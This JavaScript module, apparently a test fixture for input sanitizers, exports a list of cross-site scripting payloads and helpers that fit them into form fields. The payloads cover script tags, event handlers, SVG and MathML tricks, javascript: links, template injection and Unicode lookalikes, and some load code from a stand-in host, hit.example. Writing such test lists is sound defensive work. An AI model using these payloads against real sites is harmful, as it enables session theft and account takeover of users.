// Texts of people who mean harm. Whatever of them runs, runs `hit`, or opens a dialog.
/* eslint-disable no-script-url */
export const hostile = [
  // elements that run or load
  "<script>hit(1)</script>", "<ScRiPt>hit(2)</sCrIpT>", "<script src=//hit.example/3.js></script>", "<script src=data:,hit(4)></script>", "</script><script>hit(5)</script>",
  "<scr<script>ipt>hit(6)</scr</script>ipt>", "<script type=module>hit(7)</script>", "</title><script>hit(8)</script>", "</textarea><script>hit(9)</script>", "<!--><script>hit(10)</script>-->",
  "<iframe src=javascript:hit(11)>", "<iframe srcdoc='<script>parent.hit(12)</script>'>", "<object data=javascript:hit(13)>", "<embed src=javascript:hit(14)>", "<base href=//hit.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:hit(16)'>", "<link rel=stylesheet href=//hit.example/17.css>", "<style>@import'//hit.example/18'</style>", "<template><script>hit(19)</script></template>", "<portal src=//hit.example/20>",
  // handlers of events
  "<img src=x onerror=hit(21)>", "<img/src=x/onerror=hit(22)>", "<IMG SRC=x ONERROR=\"hit(23)\">", "\"><img src=x onerror=hit(24)>", "'><img src=x onerror=hit(25)>", "<img src=x:x onerror\n=hit(26)>", "<body onload=hit(27)>",
  "<video><source onerror=hit(28)>", "<audio src=x onerror=hit(29)>", "<details open ontoggle=hit(30)>", "<input autofocus onfocus=hit(31)>", "<select autofocus onfocus=hit(32)>", "<marquee onstart=hit(33)>",
  "<a onpointerenter=hit(34)>over</a>", "<p style=animation:x onanimationstart=hit(35)>", "\" autofocus onfocus=hit(36) x=\"", "' onmouseover='hit(37)", "` onerror=hit(38) `",
  // SVG and MathML
  "<svg onload=hit(39)>", "<svg><script>hit(40)</script></svg>", "<svg><a xlink:href=javascript:hit(41)><text y=9>x", "<svg><animate onbegin=hit(42) attributeName=x>", "<svg><set attributeName=href to=javascript:hit(43)>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=hit(44)>#x'>", "<svg><foreignObject><img src=x onerror=hit(45)>", "<math><a xlink:href=javascript:hit(46)>x", "<math href=javascript:hit(47)>x</math>",
  // what changes when it is parsed twice
  "<noscript><p title=\"</noscript><img src=x onerror=hit(48)>\">", "<math><mtext><table><mglyph><style><img src=x onerror=hit(49)>", "<svg></p><style><a id=\"</style><img src=x onerror=hit(50)>\">",
  "<xmp><p title='</xmp><svg onload=hit(51)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(52)>", "<select><template><img src=x onerror=hit(53)>",
  // addresses, in Markdown and without
  "[a](javascript:hit(54))", "[b](JaVaScRiPt:hit(55))", "[c](java&#115;cript:hit(56))", "[d](javascript&colon;hit(57))", "[e](<javascript:hit(58)>)", "[f]( javascript:hit(59) \"t\")", "<javascript:hit(60)>", "[g](vbscript:hit(61))",
  "[h](data:text/html,<script>hit(62)</script>)", "![i](x\" onerror=\"hit(63))", "![j](javascript:hit(64))", "[k][r]\n\n[r]: javascript:hit(65)", "[l](https://x.example/\"onclick=\"hit(66))", "javascript:hit(67)//", "[m](\u0001javascript:hit(68))".replace("\u0001", "\u00a0"),
  "[n](//hit.example/69)", "<a href=\"java\tscript:hit(70)\">x</a>",
  // entities, templates and letters that look like others
  "&lt;script&gt;hit(71)&lt;/script&gt;", "&#60;img src=x onerror=hit(72)&#62;", "\\u003cscript\\u003ehit(73)\\u003c/script\\u003e", "{{constructor.constructor('hit(74)')()}}", "${hit(75)}", "#{hit(76)}", "<%= hit(77) %>", "{{7*7}}[[hit(78)]]",
  "＜script＞hit(79)＜/script＞", "\u202e<script>hit(80)</script>", "<\u200bscript>hit(81)</script>", "ſcript<ſcript>hit(82)</ſcript>", "__proto__", "';hit(84);//", "\";hit(85);//", "*/hit(86)/*", "]]><script>hit(87)</script>",
];

/** The texts for fields of one line. */
export const lines = hostile.filter((text) => !/[\n\t]/.test(text));

/** The lines that fit into a field of a length, one after the other, again and again. */
export function oneByOne() {
  let n = 0;
  return (length) => {
    for (;;) {
      const text = lines[n++ % lines.length];
      if (text.length <= length) return text;
    }
  };
}

/** All of the texts, in as many pieces as a field's length demands. */
export function all(length) {
  const pieces = [""];
  for (const text of hostile) {
    const last = pieces.at(-1);
    if (last.length + text.length + 2 <= length) pieces[pieces.length - 1] = last ? `${last}\n\n${text}` : text;
    else pieces.push(text);
  }
  return pieces;
}
